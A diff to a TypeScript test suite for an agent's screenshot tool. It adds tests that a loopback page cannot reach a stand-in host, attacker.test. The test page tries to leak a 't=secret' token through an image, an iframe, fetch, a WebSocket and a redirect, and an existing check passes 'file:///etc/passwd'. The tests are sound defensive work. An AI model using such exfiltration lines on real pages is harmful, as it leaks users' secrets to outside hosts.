@@ -23,20 +23,44 @@ const pngSize = (png: Buffer) => ({ width: png.readUInt32BE(16), height: png.rea
 let browsers: Browsers;
 let server: Server;
 let base: string;
+/** Stands for a host elsewhere: Chromium maps attacker.test to it, so an unblocked request arrives. */
+let elsewhere: Server;
+let elsewherePort: number;
+const elsewhereHits: string[] = [];
+
+const listen = async (s: Server) => {
+  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
+  return (s.address() as AddressInfo).port;
+};
 
 beforeAll(async () => {
-  browsers = new Browsers();
+  browsers = new Browsers({ extraArgs: ['--host-resolver-rules=MAP attacker.test 127.0.0.1'] });
+  elsewhere = createServer((req, res) => {
+    elsewhereHits.push(req.url ?? '');
+    res.end('<!doctype html><h1>elsewhere</h1>');
+  }).on('upgrade', (req, socket) => {
+    elsewhereHits.push(`upgrade ${req.url}`);
+    socket.destroy();
+  });
+  elsewherePort = await listen(elsewhere);
+  const away = `attacker.test:${elsewherePort}`;
   server = createServer((req, res) => {
+    if (req.url === '/redirect') return res.writeHead(302, { location: `http://${away}/redirected?t=secret` }).end();
+    if (req.url === '/leaky') {
+      res.setHeader('content-type', 'text/html');
+      return res.end(`<!doctype html><h1>local</h1><img src="http://${away}/img?t=secret"><iframe src="http://${away}/frame"></iframe>
+<script>fetch('http://${away}/fetch?t=secret').catch(() => {}); new WebSocket('ws://${away}/ws');</script>`);
+    }
     // A tall, noisy page: worst case for JPEG size.
     const cells = Array.from({ length: 6000 }, (_, i) => `<i style="background:hsl(${(i * 137) % 360},90%,${30 + (i * 7) % 50}%)"></i>`).join('');
     res.end(`<!doctype html><style>i{display:inline-block;width:7px;height:7px}</style><h1>${req.url}</h1>${cells}`);
   });
-  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  base = `http://127.0.0.1:${await listen(server)}`;
 });
 afterAll(async () => {
   await browsers?.close();
   server?.close();
+  elsewhere?.close();
 });
 
 describe('diff image', { timeout: 60_000 }, () => {
@@ -72,5 +96,30 @@ describe('screenshots', { timeout: 60_000 }, () => {
 
   it('refuses non-http URLs', async () => {
     await expect(captureScreenshot(browsers, 'file:///etc/passwd')).rejects.toThrow(/http\(s\) URL/);
+  });
+});
+
+describe('a page on loopback, which the agent may open without asking', { timeout: 60_000 }, () => {
+  const settle = () => new Promise((r) => setTimeout(r, 500));
+
+  it('loads nothing from elsewhere: images, frames, fetch and WebSockets are blocked', async () => {
+    elsewhereHits.length = 0;
+    const jpeg = await captureScreenshot(browsers, `${base}/leaky`);
+    expect(jpeg.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
+    await settle();
+    expect(elsewhereHits).toEqual([]);
+  });
+
+  it('cannot redirect the browser elsewhere', async () => {
+    elsewhereHits.length = 0;
+    await expect(captureScreenshot(browsers, `${base}/redirect`)).rejects.toThrow(/may load only this machine's addresses/);
+    await settle();
+    expect(elsewhereHits).toEqual([]);
+  });
+
+  it('(control) a page elsewhere, approved on the phone, is reached', async () => {
+    elsewhereHits.length = 0;
+    await captureScreenshot(browsers, `http://attacker.test:${elsewherePort}/approved`);
+    expect(elsewhereHits).toContain('/approved');
   });
 });
